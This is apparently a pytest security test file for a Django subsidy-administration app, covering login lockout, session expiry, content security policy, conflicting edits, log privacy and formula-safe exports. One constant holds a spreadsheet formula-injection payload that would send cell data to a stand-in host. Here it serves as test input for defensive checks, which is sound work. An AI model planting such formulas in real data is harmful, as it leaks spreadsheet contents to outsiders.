"""Security features people rely on: lockout, sessions, CSP, formula-safe exports, conflicts, no leaks."""

import csv
import io
import re

import pytest
from axes.models import AccessAttempt
from django.utils import timezone
from openpyxl import load_workbook

from conftest import PASSWORD
from participants.tests.factories import WorkerFactory
from regions.models import City, WorkforceEstimate
from subsidies.models import Recipient, RecipientStatus

pytestmark = pytest.mark.django_db
S = RecipientStatus
HOSTILE_NAME = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def post_login(client, username, password):
    return client.post("/accounts/login/", {"username": username, "password": password}, REMOTE_ADDR="10.1.2.3")


def test_five_wrong_passwords_lock_the_account_even_with_the_right_one(users, client):
    for _attempt in range(4):
        assert post_login(client, "branch", "salah-sandi").status_code == 200  # the form again, with an error
    assert post_login(client, "branch", "salah-sandi").status_code == 429  # the fifth locks
    response = post_login(client, "branch", PASSWORD)
    assert response.status_code == 429
    assert "Terlalu banyak percobaan masuk yang gagal" in response.content.decode()
    assert "_auth_user_id" not in client.session
    # another address is not locked out by this one, and the cool-off ends the lock
    assert (
        client.post("/accounts/login/", {"username": "branch", "password": PASSWORD}, REMOTE_ADDR="10.9.9.9").status_code == 302
    )
    client.logout()
    AccessAttempt.objects.update(attempt_time=timezone.now() - timezone.timedelta(hours=1))
    assert post_login(client, "branch", PASSWORD).status_code == 302


def test_sessions_expire_when_idle_and_end_everywhere_on_password_change(users, client, settings):
    from django.test import Client

    assert settings.SESSION_COOKIE_AGE == 30 * 60
    assert post_login(client, "branch", PASSWORD).status_code == 302
    other = Client()
    assert post_login(other, "branch", PASSWORD).status_code == 302
    assert other.get("/ucj/").status_code == 200
    response = client.post(
        "/accounts/password_change/",
        {"old_password": PASSWORD, "new_password1": "Sandi-Baru-2026!", "new_password2": "Sandi-Baru-2026!"},
    )
    assert response.status_code == 302
    assert client.get("/ucj/").status_code == 200  # the session that changed it stays
    assert other.get("/ucj/")["Location"].startswith("/accounts/login/")  # every other session ended
    weak = client.post(
        "/accounts/password_change/",
        {"old_password": "Sandi-Baru-2026!", "new_password1": "12345678", "new_password2": "12345678"},
    )
    assert "terlalu umum" in weak.content.decode() or "too common" in weak.content.decode()


@pytest.mark.parametrize(
    "url", ["/ucj/", "/cities/61.72/", "/bsu/", "/bsu/nik/", "/admin/", "/admin/participants/worker/", "/accounts/login/"]
)
def test_pages_carry_a_strict_content_security_policy(users, client, login, url, bsu):
    client = login(users["admin"]) if url != "/accounts/login/" else client
    response = client.get(url)
    assert response.status_code == 200
    policy = response["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy
    assert response["X-Frame-Options"] == "DENY"
    assert response["Referrer-Policy"] == "same-origin"
    html = response.content.decode()
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>\s*\S", html), "inline script"
    assert " style=" not in html, "inline style attribute"
    assert "<style" not in html, "inline style element"


def _csv_rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _xlsx_rows(response):
    return list(load_workbook(io.BytesIO(response.content), read_only=True).active.iter_rows(values_only=True))


def test_exports_neutralise_formulas_and_keep_numbers(users, login, bsu):
    City.objects.filter(code="61.72").update(name=HOSTILE_NAME)
    WorkforceEstimate.objects.create(city_id="61.72", year=2025, potential_pu=100, potential_bpu=50)
    client = login(users["admin"])
    for url, numbers in (("/ucj/?province=61", slice(3, 6)), ("/bsu/?province=61", slice(2, 5))):
        rows = _csv_rows(client.get(url + "&_export=csv"))
        row = next(r for r in rows if r[0] == "61.72")
        assert row[1] == "'" + HOSTILE_NAME
        sheet = _xlsx_rows(client.get(url + "&_export=xlsx"))
        row = next(r for r in sheet if r[0] == "61.72")
        assert row[1] == "'" + HOSTILE_NAME
        assert all(isinstance(value, int) for value in row[numbers])  # counts stay numbers


def test_rejected_rows_csv_neutralises_formulas_and_is_logged(users, login, tmp_path):
    from participants.models import PersonalDataAccess

    client = login(users["branch"])
    text = io.StringIO()
    csv.writer(text).writerows(
        [["nik", "name", "segment", "city_code", "member_since"], ["123", HOSTILE_NAME, "BPU", "61.72", "2020-01-01"]]
    )
    upload = io.BytesIO(text.getvalue().encode())
    upload.name = "jahat.csv"
    response = client.post("/admin/imports/importjob/upload/", {"kind": "workers", "file": upload})
    job_url = response["Location"]
    job_id = re.search(r"/(\d+)/$", job_url).group(1)
    rows = _csv_rows(client.get(f"/admin/imports/importjob/{job_id}/rejected.csv"))
    assert rows[1][1] == "'" + HOSTILE_NAME
    assert PersonalDataAccess.objects.filter(user=users["branch"], action="EXPORT").count() == 1


def test_two_officers_change_the_same_recipient_one_gets_a_conflict(users, login, pipeline):
    recipient = Recipient.objects.get(worker__nik="6172011508950001")  # a candidate of Singkawang
    url = f"/admin/subsidies/recipient/{recipient.pk}/"
    first, second = login(users["branch"]), None
    from django.test import Client

    second = Client()
    second.force_login(users["regional"])
    for client in (first, second):
        page = client.get(url + "change/").content.decode()
        assert 'id="transition-form"' in page
    ok = first.post(url + "transition/", {"to_status": "VERIFIED", "expected": "CANDIDATE"}, follow=True)
    assert "Status diperbarui." in ok.content.decode()
    late = second.post(url + "transition/", {"to_status": "REJECTED", "expected": "CANDIDATE"}, follow=True)
    assert "sudah diubah orang lain menjadi Lolos verifikasi" in late.content.decode()
    recipient.refresh_from_db()
    assert recipient.status == S.VERIFIED
    history = list(recipient.changes.values_list("from_status", "to_status", "actor__username"))
    assert history == [("", "CANDIDATE", None), ("CANDIDATE", "VERIFIED", "branch")]
    # an officer of another branch cannot reach it at all
    stranger = Client()
    stranger.force_login(users["other_branch"])
    assert stranger.post(url + "transition/", {"to_status": "REJECTED", "expected": "VERIFIED"}).status_code == 404


def test_nothing_personal_reaches_the_application_log(users, login, caplog, pipeline):
    worker = WorkerFactory(city_code="61.72", nik="6172014407900001", name="Rahasia Sekali")
    client = login(users["branch"])
    with caplog.at_level("DEBUG"):
        client.post("/bsu/nik/", {"nik": worker.nik})
        client.get("/cities/61.71/")  # a 404 is logged
        client.get("/bsu/?_export=csv")
    text = caplog.text
    assert worker.nik not in text
    assert worker.name not in text
